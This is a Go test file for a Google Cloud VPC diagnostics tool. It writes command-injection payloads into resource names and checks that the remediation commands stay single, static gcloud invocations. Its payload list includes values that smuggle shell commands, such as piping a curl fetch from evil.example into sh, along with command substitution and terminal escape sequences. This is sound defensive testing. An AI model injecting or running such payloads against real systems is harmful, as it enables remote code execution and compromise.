package checks_test

import (
	"bytes"
	"encoding/json"
	"io/fs"
	"path"
	"strings"
	"testing"
	"testing/fstest"
	"unicode"

	"mvdan.cc/sh/v3/syntax"
	"sigs.k8s.io/yaml"

	"github.com/vpcdoctor/vpcdoctor/checks"
	"github.com/vpcdoctor/vpcdoctor/fixtures"
	"github.com/vpcdoctor/vpcdoctor/inventory"
	"github.com/vpcdoctor/vpcdoctor/inventory/snapshot"
)

// hostilePayloads are values an attacker writes into a name, each with a marker that must
// never reach a remediation command.
var hostilePayloads = []struct{ value, marker string }{
	{"x; curl -s evil.example|sh; #", "curl"},
	{"x$(id)", "id)"},
	{"x`id`", "`"},
	{"x'; touch pwned; '", "pwned"},
	{"x\ncurl evil.example|sh", "curl"},
	{"x\x1b]0;title\x07\x1b[31mred", "\x1b"},
	{"x\u202eevil", "\u202e"},
	// Harmless in a shell word (a workflow command starts a line, and findings are one
	// line); the GitHub reporter escapes it. Only the printable-line invariant applies.
	{"x::error::forged", ""},
}

// hostileTargets are names of the scenarios' resources (the built-in fixtures all use
// them) that an attacker can choose when writing a snapshot.
var hostileTargets = []string{"redis-connector", "my-redis", "cache-service", "redis-peer-123456789012", "my-project", "us-central1", "nat-router", "vpn-router", "nat-config"}

// hostileScenarios are scenarios whose findings carry many commands, so that rewriting
// their names exercises most command builders.
var hostileScenarios = []string{
	"healthy", "no-vpc-egress", "connector-error", "connector-production-size", "redis-auth-missing", "redis-auth-plaintext",
	"firewall-egress-deny", "connector-firewall-blocked", "firewall-policy-deny", "shared-vpc-not-connected",
	"redis-tls-plaintext", "direct-vpc-subnet", "peering-deleted", "missing-subnets",
	"egress-nat-missing", "egress-nat-subnet",
}

// rewriteScenario returns the scenario's files with every string value holding target
// rewritten to hold payload instead, encoded as JSON (which the snapshot loader reads
// whatever the file's extension), so the snapshot stays consistent: the same hostile name
// everywhere the real one appeared.
func rewriteScenario(t *testing.T, scenario fixtures.Scenario, target, payload string) fs.FS {
	t.Helper()
	out := fstest.MapFS{}
	err := fs.WalkDir(scenario.FS, ".", func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || strings.HasPrefix(strings.ToUpper(path.Base(name)), "README") {
			return err
		}
		data, err := fs.ReadFile(scenario.FS, name)
		if err != nil {
			return err
		}
		if strings.HasSuffix(name, ".yaml") {
			if data, err = yaml.YAMLToJSON(data); err != nil {
				return err
			}
		}
		var doc any
		if err := json.Unmarshal(data, &doc); err != nil {
			return err
		}
		rewritten, err := json.Marshal(replaceStrings(doc, target, payload))
		if err != nil {
			return err
		}
		out[name] = &fstest.MapFile{Data: rewritten}
		return nil
	})
	if err != nil {
		t.Fatalf("rewrite %s: %v", scenario.Name, err)
	}
	return out
}

func replaceStrings(v any, old, replacement string) any {
	switch v := v.(type) {
	case string:
		return strings.ReplaceAll(v, old, replacement)
	case []any:
		for i := range v {
			v[i] = replaceStrings(v[i], old, replacement)
		}
	case map[string]any:
		out := make(map[string]any, len(v))
		for k, item := range v {
			out[strings.ReplaceAll(k, old, replacement)] = replaceStrings(item, old, replacement)
		}
		return out
	}
	return v
}

// runFS runs the catalogue on every path of a snapshot.
func runFS(t *testing.T, fsys fs.FS, name string) []checks.Finding {
	t.Helper()
	inv, err := snapshot.LoadFS(fsys, name)
	if err != nil {
		// Rejecting the input is a valid outcome, as long as the error is one clean line.
		if strings.ContainsAny(err.Error(), "\n\r\x1b") {
			t.Errorf("%s: load error is not one printable line: %q", name, err)
		}
		return nil
	}
	paths, err := inventory.Select(inv, inventory.Selector{})
	if err != nil {
		return nil
	}
	var all []checks.Finding
	for _, p := range paths {
		all = append(all, checks.Run(checks.Catalogue(), p, nil, checks.At(scenarioClock))...)
	}
	return all
}

// TestRemediationCommandsParse requires every remediation command of every scenario to be
// one shell command with a static argument list (see assertSafeCommand).
func TestRemediationCommandsParse(t *testing.T) {
	commands := 0
	for _, scenario := range fixtures.Scenarios() {
		for _, f := range runScenario(t, scenario.Name) {
			if f.Remediation == nil {
				continue
			}
			for _, c := range f.Remediation.Commands {
				commands++
				assertSafeCommand(t, scenario.Name+" "+f.ID, c)
			}
		}
	}
	if commands < 50 {
		t.Fatalf("only %d commands checked; the scenarios should yield many more", commands)
	}
}

// TestHostileNames writes shell metacharacters, command substitutions, new lines and
// terminal escapes into the scenarios' names and requires that the run completes, that no
// finding carries a control character, and that every remediation command still parses as
// one static command that carries none of the payload.
func TestHostileNames(t *testing.T) {
	withheld, ran, runs := 0, 0, 0
	for _, name := range hostileScenarios {
		scenario, ok := fixtures.Lookup(name)
		if !ok {
			t.Fatalf("no scenario %s", name)
		}
		for _, target := range hostileTargets {
			for _, payload := range hostilePayloads {
				label := name + " " + target + "=" + payload.value
				findings := runFS(t, rewriteScenario(t, scenario, target, payload.value), name)
				runs++
				if len(findings) > 0 {
					ran++
				}
				for _, f := range findings {
					assertPrintable(t, label+" "+f.ID, f)
					if strings.Contains(f.Message, "is not a valid Google Cloud name") {
						withheld++
					}
					if f.Remediation == nil {
						continue
					}
					for _, c := range f.Remediation.Commands {
						assertSafeCommand(t, label+" "+f.ID, c)
						if payload.marker != "" && strings.Contains(c, payload.marker) {
							t.Errorf("%s %s: command carries the payload: %s", label, f.ID, c)
						}
					}
				}
			}
		}
	}
	if withheld == 0 {
		t.Fatal("no command was withheld: the hostile names never reached a command builder")
	}
	// Rejecting a hostile snapshot is fine, but most must run, or the test proves little.
	t.Logf("%d of %d hostile snapshots ran the checks; %d findings withheld a command", ran, runs, withheld)
	if ran < runs/2 {
		t.Errorf("only %d of %d hostile snapshots ran the checks", ran, runs)
	}
}

// assertPrintable fails when a string of the finding holds a control or format character.
func assertPrintable(t *testing.T, label string, f checks.Finding) {
	t.Helper()
	fields := []string{f.ID, f.Title, f.Service, f.Resource, f.Message, f.Docs, f.Source}
	if f.Remediation != nil {
		fields = append(fields, f.Remediation.Text)
		fields = append(fields, f.Remediation.Commands...)
	}
	for _, s := range fields {
		for _, r := range s {
			if unicode.IsControl(r) || unicode.Is(unicode.Cf, r) {
				t.Errorf("%s: %q holds control character %U", label, s, r)
				break
			}
		}
	}
}

// assertSafeCommand parses c as POSIX shell and requires one command (or a pipeline of
// them) whose words are all static: literals and quoted strings, no expansion, command
// substitution, glob, background job or list; a redirect only to a literal file.
func assertSafeCommand(t *testing.T, label, c string) {
	t.Helper()
	file, err := syntax.NewParser(syntax.Variant(syntax.LangPOSIX)).Parse(strings.NewReader(c), "")
	if err != nil {
		t.Errorf("%s: command does not parse: %v\n%s", label, err, c)
		return
	}
	if len(file.Stmts) != 1 {
		t.Errorf("%s: %d statements, want 1: %s", label, len(file.Stmts), c)
		return
	}
	var calls []*syntax.CallExpr
	var walk func(stmt *syntax.Stmt) bool
	walk = func(stmt *syntax.Stmt) bool {
		if stmt.Background || stmt.Negated || stmt.Coprocess {
			return false
		}
		for _, r := range stmt.Redirs {
			if r.Op != syntax.RdrOut || !staticWord(r.Word) {
				return false
			}
		}
		switch cmd := stmt.Cmd.(type) {
		case *syntax.CallExpr:
			if len(cmd.Assigns) > 0 || len(cmd.Args) == 0 {
				return false
			}
			calls = append(calls, cmd)
			return true
		case *syntax.BinaryCmd:
			return cmd.Op == syntax.Pipe && walk(cmd.X) && walk(cmd.Y)
		}
		return false
	}
	if !walk(file.Stmts[0]) {
		t.Errorf("%s: not one simple command, pipeline or redirect to a file: %s", label, c)
		return
	}
	for _, call := range calls {
		for _, w := range call.Args {
			if !staticWord(w) {
				var b bytes.Buffer
				_ = syntax.NewPrinter().Print(&b, w)
				t.Errorf("%s: word %s is not static: %s", label, b.String(), c)
			}
		}
		if first := call.Args[0].Lit(); first != "gcloud" && first != "vpcdoctor" {
			t.Errorf("%s: runs %q, not gcloud: %s", label, first, c)
		}
	}
}

// staticWord reports whether w is made only of literals and quoted literals (no
// parameter, arithmetic or command expansion, no glob, no tilde).
func staticWord(w *syntax.Word) bool {
	for i, part := range w.Parts {
		switch p := part.(type) {
		case *syntax.Lit:
			if strings.ContainsAny(p.Value, "*?[") || (i == 0 && strings.HasPrefix(p.Value, "~")) {
				return false
			}
		case *syntax.SglQuoted:
			if p.Dollar {
				return false
			}
		case *syntax.DblQuoted:
			for _, inner := range p.Parts {
				if _, ok := inner.(*syntax.Lit); !ok {
					return false
				}
			}
		default:
			return false
		}
	}
	return true
}
